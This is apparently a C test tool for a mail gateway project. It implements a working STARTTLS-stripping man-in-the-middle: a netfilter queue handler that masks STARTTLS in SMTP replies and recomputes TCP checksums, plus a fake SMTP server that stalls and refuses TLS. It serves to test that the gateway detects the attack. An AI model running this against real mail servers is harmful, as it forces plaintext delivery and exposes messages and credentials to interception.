/*
 * stg_attacker.c - a STARTTLS-stripping man in the middle, for the tests.
 *
 *   stg_attacker rewrite QUEUE
 *   stg_attacker hold starttls|ehlo SECONDS ADDRESS
 *
 * Serves one NFQUEUE in the attacker namespace (rules there queue TCP with
 * source port 25). In server-to-client segments whose payload starts a
 * 250 reply, every "STARTTLS" (any case) becomes "XXXXXXXX": the same
 * length, so TCP sequence numbers stay valid; the TCP checksum is computed
 * anew and the segment goes back to the kernel in the verdict. This is the
 * classic stripping attack the gateway must catch. Prints one line per
 * rewrite on stderr; exits on SIGTERM/SIGINT. Test tool only: it talks to
 * libnetfilter_queue directly because it must hand back a changed packet.
 *
 * hold: an SMTP server on ADDRESS port 25 (the attacker answering for the
 * real one) that holds one reply SECONDS long, then answers as an attacker
 * would: "starttls" offers STARTTLS, holds the reply to it, then refuses
 * it with 454; "ehlo" holds the EHLO reply, then sends it with STARTTLS
 * masked (XXXXXXXX). Everything else is accepted (MAIL, RCPT, DATA, QUIT).
 * One connection at a time; every line received is printed on stderr
 * ("stg_attacker: C: MAIL FROM:<...>"), so a test can tell what crossed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>

#include <libmnl/libmnl.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nfnetlink.h>
#include <libnetfilter_queue/libnetfilter_queue.h>

#include "../../inspect/pkt.h"
#include "../../inspect/csum.h"

#define ATT_BUFSZ (0xffff + 8192)

static volatile sig_atomic_t stop;
static unsigned rewrites;

static void
on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* Recompute the TCP checksum of a decoded segment in place. */
static void
tcp_fix_csum(struct pkt *p)
{
	uint8_t *th = (uint8_t *)(uintptr_t)p->l4;
	size_t alen = p->af == 4 ? 4 : 16, tlen = p->l4_len;
	uint32_t s;

	th[16] = th[17] = 0;
	s = csum_add(0, p->src.a, alen);
	s = csum_add(s, p->dst.a, alen);
	s += 6 + (uint32_t)tlen;
	s = csum_fold(csum_add(s, th, tlen));
	th[16] = (uint8_t)(s >> 8);
	th[17] = (uint8_t)s;
}

/* Garble STARTTLS in a 250 reply; returns the number of replacements. */
static int
rewrite(struct pkt *p)
{
	uint8_t *pl = (uint8_t *)(uintptr_t)p->payload;
	uint32_t i, n = p->payload_len;
	int hits = 0;

	if (p->sport != 25 || n < 12 || memcmp(pl, "250", 3) != 0)
		return 0;
	for (i = 0; i + 8 <= n; i++) {
		if (strncasecmp((const char *)pl + i, "STARTTLS", 8) == 0) {
			memset(pl + i, 'X', 8);
			hits++;
		}
	}
	if (hits)
		tcp_fix_csum(p);
	return hits;
}

/* Write all of s; -1 on error. */
static int
put_all(int fd, const char *s)
{
	size_t n = strlen(s);

	while (n > 0) {
		ssize_t w = send(fd, s, n, MSG_NOSIGNAL);
		if (w <= 0)
			return -1;
		s += w;
		n -= (size_t)w;
	}
	return 0;
}

/* Sleep secs seconds unless stopped. */
static void
hold(unsigned secs)
{
	for (unsigned i = 0; i < secs * 10 && !stop; i++) {
		struct timespec ts = { 0, 100000000L };
		nanosleep(&ts, NULL);
	}
}

/* One SMTP session on fd, holding the reply `what` names for secs. */
static void
serve(int fd, const char *what, unsigned secs)
{
	char line[1024];
	size_t len = 0;
	int data = 0, ehlo_held = strcmp(what, "ehlo") == 0;

	if (put_all(fd, "220 mx.example.net ESMTP\r\n") < 0)
		return;
	while (!stop) {
		struct pollfd pfd = { fd, POLLIN, 0 };
		char c;
		ssize_t r;

		if (poll(&pfd, 1, 200) <= 0)
			continue;
		if ((r = recv(fd, &c, 1, 0)) <= 0) {
			fprintf(stderr, "stg_attacker: connection %s\n", r == 0 ? "closed" : strerror(errno));
			return;
		}
		if (c != '\n') {
			if (len + 1 < sizeof line)
				line[len++] = c;
			continue;
		}
		if (len > 0 && line[len - 1] == '\r')
			len--;
		line[len] = '\0';
		len = 0;
		if (data) {
			if (strcmp(line, ".") == 0) {
				data = 0;
				fprintf(stderr, "stg_attacker: C: <end of data>\n");
				put_all(fd, "250 2.0.0 Ok: queued\r\n");
			}
			continue;
		}
		fprintf(stderr, "stg_attacker: C: %s\n", line);
		if (strncasecmp(line, "EHLO", 4) == 0 && ehlo_held) {
			fprintf(stderr, "stg_attacker: holding the EHLO reply %u s\n", secs);
			hold(secs);
			put_all(fd, "250-mx.example.net\r\n250-PIPELINING\r\n250-XXXXXXXX\r\n"
			    "250 8BITMIME\r\n");
			fprintf(stderr, "stg_attacker: sent the stripped EHLO reply\n");
		} else if (strncasecmp(line, "EHLO", 4) == 0) {
			put_all(fd, "250-mx.example.net\r\n250-PIPELINING\r\n250-STARTTLS\r\n"
			    "250 8BITMIME\r\n");
		} else if (strncasecmp(line, "STARTTLS", 8) == 0) {
			fprintf(stderr, "stg_attacker: holding the STARTTLS reply %u s\n", secs);
			hold(secs);
			put_all(fd, "454 4.7.0 TLS not available due to local problem\r\n");
			fprintf(stderr, "stg_attacker: sent 454\n");
		} else if (strncasecmp(line, "DATA", 4) == 0) {
			data = 1;
			put_all(fd, "354 End data with <CR><LF>.<CR><LF>\r\n");
		} else if (strncasecmp(line, "QUIT", 4) == 0) {
			put_all(fd, "221 2.0.0 Bye\r\n");
			return;
		} else {
			put_all(fd, "250 2.0.0 Ok\r\n");
		}
	}
}

/* hold: serve connections on addr:25 until stopped. */
static int
hold_main(const char *what, unsigned secs, const char *addr)
{
	struct sockaddr_in sin;
	int one = 1, ls;

	memset(&sin, 0, sizeof sin);
	sin.sin_family = AF_INET;
	sin.sin_port = htons(25);
	if (inet_pton(AF_INET, addr, &sin.sin_addr) != 1) {
		fprintf(stderr, "stg_attacker: bad address %s\n", addr);
		return 2;
	}
	if ((ls = socket(AF_INET, SOCK_STREAM, 0)) < 0 ||
	    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
	    bind(ls, (struct sockaddr *)&sin, sizeof sin) < 0 || listen(ls, 8) < 0) {
		perror("stg_attacker: listen");
		return 1;
	}
	fprintf(stderr, "stg_attacker: holding %s replies %u s on %s:25\n", what, secs, addr);
	while (!stop) {
		struct pollfd pfd = { ls, POLLIN, 0 };
		int fd;

		if (poll(&pfd, 1, 200) <= 0)
			continue;
		if ((fd = accept(ls, NULL, NULL)) < 0)
			continue;
		fprintf(stderr, "stg_attacker: connection\n");
		serve(fd, what, secs);
		close(fd);
	}
	close(ls);
	return 0;
}

static int
send_cfg(struct mnl_socket *nl, char *buf, unsigned queue, int bind_cmd)
{
	struct nlmsghdr *nlh = nfq_nlmsg_put(buf, NFQNL_MSG_CONFIG, queue);

	if (bind_cmd)
		nfq_nlmsg_cfg_put_cmd(nlh, AF_UNSPEC, NFQNL_CFG_CMD_BIND);
	else
		nfq_nlmsg_cfg_put_params(nlh, NFQNL_COPY_PACKET, 0xffff);
	return mnl_socket_sendto(nl, nlh, nlh->nlmsg_len) < 0 ? -1 : 0;
}

int
main(int argc, char **argv)
{
	static char buf[ATT_BUFSZ], out[ATT_BUFSZ];
	struct nlattr *attr[NFQA_MAX + 1];
	struct mnl_socket *nl;
	struct sigaction sa;
	struct pollfd pfd;
	unsigned queue;
	int one = 1;

	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_signal;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	if (argc == 5 && strcmp(argv[1], "hold") == 0 &&
	    (strcmp(argv[2], "starttls") == 0 || strcmp(argv[2], "ehlo") == 0))
		return hold_main(argv[2], (unsigned)atoi(argv[3]), argv[4]);
	if (argc != 3 || strcmp(argv[1], "rewrite") != 0) {
		fprintf(stderr, "usage: stg_attacker rewrite QUEUE\n"
		    "       stg_attacker hold starttls|ehlo SECONDS ADDRESS\n");
		return 2;
	}
	queue = (unsigned)atoi(argv[2]);

	nl = mnl_socket_open(NETLINK_NETFILTER);
	if (nl == NULL || mnl_socket_bind(nl, 0, MNL_SOCKET_AUTOPID) < 0) {
		perror("stg_attacker: netlink");
		return 1;
	}
	(void)mnl_socket_setsockopt(nl, NETLINK_NO_ENOBUFS, &one, sizeof one);
	if (send_cfg(nl, out, queue, 1) < 0 || send_cfg(nl, out, queue, 0) < 0) {
		perror("stg_attacker: queue config");
		return 1;
	}
	fprintf(stderr, "stg_attacker: rewriting on queue %u\n", queue);

	while (!stop) {
		ssize_t n;
		const struct nlmsghdr *nlh;
		int len;

		pfd.fd = mnl_socket_get_fd(nl);
		pfd.events = POLLIN;
		if (poll(&pfd, 1, 200) <= 0)
			continue;
		n = recv(pfd.fd, buf, sizeof buf, MSG_DONTWAIT);
		if (n <= 0)
			continue;
		len = (int)n;
		for (nlh = (struct nlmsghdr *)buf; mnl_nlmsg_ok(nlh, len);
		    nlh = mnl_nlmsg_next(nlh, &len)) {
			struct nfqnl_msg_packet_hdr *ph;
			struct nlmsghdr *v;
			struct pkt p;
			uint8_t *data;
			uint32_t plen, id;
			int hits = 0;

			if (NFNL_MSG_TYPE(nlh->nlmsg_type) != NFQNL_MSG_PACKET)
				continue;
			memset(attr, 0, sizeof attr);
			if (nfq_nlmsg_parse(nlh, attr) < 0 ||
			    attr[NFQA_PACKET_HDR] == NULL)
				continue;
			ph = mnl_attr_get_payload(attr[NFQA_PACKET_HDR]);
			id = ntohl(ph->packet_id);
			v = nfq_nlmsg_put(out, NFQNL_MSG_VERDICT, queue);
			nfq_nlmsg_verdict_put(v, (int)id, NF_ACCEPT);
			if (attr[NFQA_PAYLOAD] != NULL) {
				data = mnl_attr_get_payload(attr[NFQA_PAYLOAD]);
				plen = mnl_attr_get_payload_len(attr[NFQA_PAYLOAD]);
				if (pkt_decode_ip(&p, data, plen) == PKT_OK &&
				    p.payload_len == p.payload_wire_len)
					hits = rewrite(&p);
				if (hits) {
					nfq_nlmsg_verdict_put_pkt(v, data, plen);
					rewrites += (unsigned)hits;
					fprintf(stderr, "stg_attacker: rewrote STARTTLS "
					    "(%u so far)\n", rewrites);
				}
			}
			if (mnl_socket_sendto(nl, v, v->nlmsg_len) < 0)
				perror("stg_attacker: verdict");
		}
	}
	mnl_socket_close(nl);
	fprintf(stderr, "stg_attacker: %u rewrites\n", rewrites);
	return 0;
}
